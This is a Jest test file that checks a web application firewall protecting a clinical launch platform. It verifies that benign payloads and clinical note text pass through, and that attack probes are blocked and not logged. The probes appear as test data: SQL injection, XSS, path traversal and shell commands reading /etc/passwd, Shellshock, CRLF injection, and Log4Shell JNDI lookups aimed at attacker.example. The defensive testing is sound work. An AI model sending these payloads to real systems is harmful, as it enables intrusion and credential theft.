import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { readdirSync, readFileSync } from 'node:fs';
import { createServer, type IncomingMessage, request } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Browser } from '@clinical-launch/simulators/play/browser';
import { findFreePort } from '@clinical-launch/testing/servers/private-server';
import { until } from '@clinical-launch/testing/until';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { aHiddenOrder, aHiddenPatient, valuesOf } from '../leaks/hidden-people.ts';
import { playEverything } from '../leaks/play-everything.ts';
import { createDemoPms, startPlatformForTest } from '../running-platform.ts';
import { type RunningWaf, startWaf } from './running-waf.ts';

const samples = new URL('../../../libs/testing/samples/', import.meta.url);
const json = { 'Content-Type': 'application/json' };

/** Returns the numbers of the rules that the firewall has logged. */
const rulesOf = (log: string) => [...log.matchAll(/"rule":(\d+)/g)].map(([, rule]) => rule);

describe.each([1, 2])('the firewall at paranoia level %i', (level) => {
  let platform: Awaited<ReturnType<typeof startPlatformForTest>>;
  let waf: RunningWaf;
  beforeAll(async () => {
    const [port, ownPort] = [await findFreePort(), await findFreePort()];
    const edgeUrl = `http://127.0.0.1:${ownPort}`;
    waf = await startWaf({ edgeUrl, port, level });
    platform = await startPlatformForTest({
      environment: { PORT: `${ownPort}`, PUBLIC_URL: `http://localhost:${port}` },
      logLevel: 'error',
    });
  });
  afterAll(async () => {
    await platform.stop();
    await waf.stop();
  });

  it.each(readdirSync(samples).filter((name) => name.endsWith('.json')))(
    'forwards the payload %s and its launch',
    async (name) => {
      const payload = JSON.parse(readFileSync(new URL(name, samples), 'utf8'));
      payload.identifier[0].value = randomUUID();
      const pms = createDemoPms(waf.url);
      const { url } = await pms.requestLaunch(payload);
      expect((await new Browser().open(url)).status).toBe(200);
      expect(rulesOf(waf.log())).toEqual([]);
    },
  );

  it('forwards every payload that a sandbox client sends through the developer portal', async () => {
    for (const name of readdirSync(samples).filter((each) => each.endsWith('.json'))) {
      const body = readFileSync(new URL(name, samples), 'utf8');
      const address = `${waf.url}/developers/api/vendor/AccessApi/Validate`;
      const { status } = await fetch(address, { method: 'POST', headers: json, body });
      expect([name, status]).not.toEqual([name, 403]);
    }
    expect(rulesOf(waf.log())).toEqual([]);
  });

  it('forwards both launches, the eight actions and every refusal of the platform, and logs no secret', async () => {
    const patient = aHiddenPatient();
    await playEverything(waf.url.replace('127.0.0.1', 'localhost'), patient, aHiddenOrder(patient));
    expect(rulesOf(waf.log())).toEqual([]);
    for (const value of valuesOf(patient)) expect(waf.log()).not.toContain(value);
    expect(waf.log()).not.toMatch(/launchToken|secureLaunch/);
  });

  it.each([
    'Ó Súilleabháin-D’Arcy',
    'O\'Brien, "Zee"',
    'Pt\'s c/o SOB; ?PE — "urgent"',
    "Ca 2.6; PTH up (see letter 3/11) & recheck -- patient's request",
    'pain on exertion; cut on hand; head injury',
    'group by and save; order by Dr Smith',
    'time 10:30; kill time; sleep 5 hours',
    'on insulin; eval(uate) feet',
    "1/52 hx of D&V, o/e NAD; can't fast <24h",
    'paid £5 ${see note} {jndi}',
  ])('forwards a form with the text %s', async (text) => {
    const body = new URLSearchParams({ notes: text });
    const { status } = await fetch(`${waf.url}/oltr/${randomUUID()}/`, { method: 'POST', body });
    expect(status).not.toBe(403);
  });

  it.each(['--', '0xabc', '-or-', '-'.repeat(20)])('forwards a token that contains %s', async (part) => {
    const token = `${'a'.repeat(20)}${part}${'B'.repeat(20)}`;
    const headers = { Cookie: `launch-session=${token}` };
    const launch = `/secureLaunch?launchToken=${token}&codeVerifier=${token}`;
    const form = { method: 'POST', body: new URLSearchParams({ code: token, request_uri: token }) };
    for (const response of [
      await fetch(waf.url + launch, { headers }),
      await fetch(`${waf.url}/idp/demo/desktop/oauth2/v2.0/token`, form),
    ])
      expect(response.headers.get('content-type')).not.toBe('application/problem+json');
    expect(rulesOf(waf.log())).toEqual([]);
  });

  it('answers 401 to an invalid token of a client that waits for 100 Continue', async () => {
    const program = { Accept: '*/*', 'User-Agent': 'test' };
    const headers = { ...json, ...program, Authorization: 'Bearer invalid', Expect: '100-continue' };
    const client = request(`${waf.url}/AccessApi/RequestLaunchUrl`, { method: 'POST', headers });
    client.on('continue', () => client.end('{}')).flushHeaders();
    const [{ statusCode }] = (await once(client, 'response')) as [IncomingMessage];
    client.destroy();
    expect(statusCode).toBe(401);
  });

  const query = (value: string) => `/?q=${encodeURIComponent(value)}`;
  const form = (value: string) => ({ method: 'POST', body: new URLSearchParams({ q: value }) });
  const union = "' UNION SELECT password FROM users--";
  const script = '<script>alert(document.cookie)</script>';
  const lookup = '${jndi:ldap://attacker.example/a}';
  it.each<[string, string, RequestInit]>([
    ['SQL in a query', query(union), {}],
    ['SQL in a form', `/oltr/${randomUUID()}/`, form("1' OR '1'='1")],
    ['SQL in a token request', '/idp/demo/oauth2/v2.0/token', form(union)],
    [
      'SQL in JSON',
      '/AccessApi/Validate',
      { method: 'POST', headers: json, body: JSON.stringify({ a: union }) },
    ],
    ['a script in a query', query(script), {}],
    ['a script in a form', `/oltr/${randomUUID()}/`, form('"><img src=x onerror=alert(1)>')],
    [
      'a script in JSON',
      '/AccessApi/Validate',
      { method: 'POST', headers: json, body: JSON.stringify({ a: script }) },
    ],
    [
      'a script in a parameter with the name of a member of JSON',
      `/AccessApi/Validate?json.text.div=${encodeURIComponent(script)}`,
      {},
    ],
    ['a path to a file of the system', query('../../../../etc/passwd'), {}],
    ['a command of a shell', query(';cat /etc/passwd'), {}],
    ['a command in a query that ends like a path', `${query(';cat /etc/passwd')}&y=/launches`, {}],
    ['a command in a query with the path of a form', `${query(';cat /etc/passwd')}&y=/oltr/`, {}],
    ['a Log4Shell lookup in a header', '/', { headers: { 'X-Probe': lookup } }],
    [
      'a hidden Log4Shell lookup in a header',
      '/',
      { headers: { 'User-Agent': '${${lower:J}ndi:ldap://a/b}' } },
    ],
    ['a Log4Shell lookup in a cookie', '/', { headers: { Cookie: `a=${lookup}` } }],
    ['a Log4Shell lookup in a query', query(lookup), {}],
    ['a Log4Shell lookup in a path', `/oltr/${encodeURIComponent(lookup)}`, {}],
    ['a Log4Shell lookup in a form', `/oltr/${randomUUID()}/`, form(lookup)],
    [
      'a Log4Shell lookup in JSON',
      '/AccessApi/Validate',
      { method: 'POST', headers: json, body: JSON.stringify({ a: lookup }) },
    ],
    ['a header with a command', '/', { headers: { 'X-Probe': '() { :; }; /bin/cat /etc/passwd' } }],
    ['a header of an attack tool', '/', { headers: { 'User-Agent': 'sqlmap/1.5' } }],
    ['a query that injects a response header', '/?x=%0d%0aSet-Cookie:%20a=b', {}],
    ['a method that the platform does not have', '/', { method: 'PUT' }],
  ])('refuses %s', async (_attack, path, request) => {
    const response = await fetch(waf.url + path, request);
    expect([response.status, response.headers.get('content-type')]).toEqual([
      403,
      'application/problem+json',
    ]);
    const reference = response.headers.get('x-correlation-id') ?? '';
    expect(await response.json()).toMatchObject({ status: 403, correlationId: reference });
    const line = new RegExp(`"requestId":"${reference}","rule":\\d{5,6}`);
    // Another process writes the lines of the rules, so a line may arrive after the response.
    await until(() => line.test(waf.log()));
    for (const part of ['password', 'alert(', 'passwd', 'sqlmap', 'Set-Cookie', 'UNION', 'ndi:'])
      expect(waf.log()).not.toContain(part);
  });
});

describe('the firewall', () => {
  const reached: IncomingMessage[] = [];
  let waf: RunningWaf;
  const edge = createServer((request, response) => {
    reached.push(request);
    if (request.url === '/closes') request.socket.destroy();
    else request.resume().on('end', () => response.end());
  });
  beforeAll(async () => {
    await new Promise<void>((resolve) => edge.listen(0, '127.0.0.1', resolve));
    const { port } = edge.address() as AddressInfo;
    waf = await startWaf({ edgeUrl: `http://127.0.0.1:${port}`, port: await findFreePort(), level: 1 });
  });
  afterAll(async () => {
    await waf.stop();
    edge.closeAllConnections();
    edge.close();
  });

  it('sends a request once, even if the edge closes the connection', async () => {
    expect((await fetch(`${waf.url}/closes`)).status).toBe(502);
    expect(reached.filter(({ url }) => url === '/closes')).toHaveLength(1);
  });

  it('appends the address of the caller to X-Forwarded-For, whatever the caller sends', async () => {
    await fetch(`${waf.url}/address`, { headers: { 'X-Forwarded-For': '10.0.0.1' } });
    const [request] = reached.filter(({ url }) => url === '/address');
    expect(request?.headers['x-forwarded-for']).toBe('10.0.0.1, 127.0.0.1');
  });

  it('forwards a body of 256 KiB, and refuses a longer body with 413', async () => {
    const send = (bytes: number) =>
      fetch(`${waf.url}/AccessApi/Validate`, {
        method: 'POST',
        headers: json,
        body: `"${'x'.repeat(bytes - 2)}"`,
      });
    expect((await send(262_144)).status).toBe(200);
    const refused = await send(262_145);
    expect([refused.status, refused.headers.get('content-type')]).toEqual([413, 'application/problem+json']);
  });

  it('forwards an address of 12,000 characters', async () => {
    expect((await fetch(`${waf.url}/?request=${'x'.repeat(12_000)}`)).status).toBe(200);
  });
});
